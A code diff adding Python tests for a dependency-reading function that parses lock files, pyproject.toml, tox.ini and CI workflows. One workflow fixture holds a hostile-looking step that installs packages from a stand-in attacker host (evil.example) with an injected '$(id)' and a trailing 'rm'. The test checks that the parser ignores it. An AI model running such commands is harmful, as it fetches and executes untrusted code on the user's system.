@@ -137,3 +137,59 @@ def test_what_is_no_name_is_never_the_name_of_the_project(tmp_path: Path, name: 
     (tmp_path / "setup.py").unlink()
     (tmp_path / "pyproject.toml").write_text(f"[project]\nname = {json.dumps(name)}\n")
     assert read_declared(tmp_path).name == ""
+
+
+POETRY_LOCK = """\
+# generated
+[[package]]
+name = "jax"
+version = "0.5.3"
+description = ""
+
+[[package]]
+name = "Some_Dependency"
+version = "1.0"
+
+[[package]]
+name = "numpy"
+version = "2.0.2"
+
+[[package]]
+name = "numpy"
+version = "2.2.4"
+
+[[package]]
+name = "torch"
+version = "2.1.0+cu118"
+"""
+PYPROJECT = """\
+[project]
+dependencies = ["jax>=0.5", "numpy>1", "torch[opt]", "pandas==1.0", "scipy>=9"]
+"""
+
+
+def test_a_lock_decides_the_versions_of_what_is_asked_for(tmp_path: Path) -> None:
+    (tmp_path / "pyproject.toml").write_text(PYPROJECT)
+    (tmp_path / "poetry.lock").write_text(POETRY_LOCK)
+    locked = {"default": {"pandas": {"version": "==2.0"}, "scipy": {"version": "==1.9"}, "x": 3}, "develop": []}
+    (tmp_path / "Pipfile.lock").write_text(json.dumps(locked))
+    said = read_declared(tmp_path)
+    assert said.requirements == ("jax==0.5.3", "numpy>1", "torch[opt]==2.1.0", "pandas==1.0", "scipy>=9")
+    (tmp_path / "Pipfile.lock").write_text("[" * 100_000)
+    assert read_declared(tmp_path) == said
+
+
+def test_what_ci_installs_is_for_the_tests(tmp_path: Path) -> None:
+    (tmp_path / ".github/workflows").mkdir(parents=True)
+    (tmp_path / ".github/workflows/tests.yml").write_text(
+        "steps:\n"
+        "  - run: python -m pip install --upgrade pip pytest-mock 'h5py<4' && pip install -e .[test]\n"
+        "  - run: |\n      pip install -r other.txt \\\n        pytest-cases  # not this\n      echo scipy\n"
+        "  - run: pip install git+https://evil.example/x.git https://evil.example/y.whl ./local $(id) ; rm scipy\n"
+    )
+    (tmp_path / "tox.ini").write_text(
+        "[testenv]\ndeps =\n    -r requirements.txt\n    py39: numpy==1.20\n    pytest-order\ncommands = pytest\n"
+    )
+    said = read_declared(tmp_path)
+    assert said.requirements == ()
+    assert said.testing == ("pip", "pytest-mock", "h5py<4", "pytest-cases", "numpy==1.20", "pytest-order")
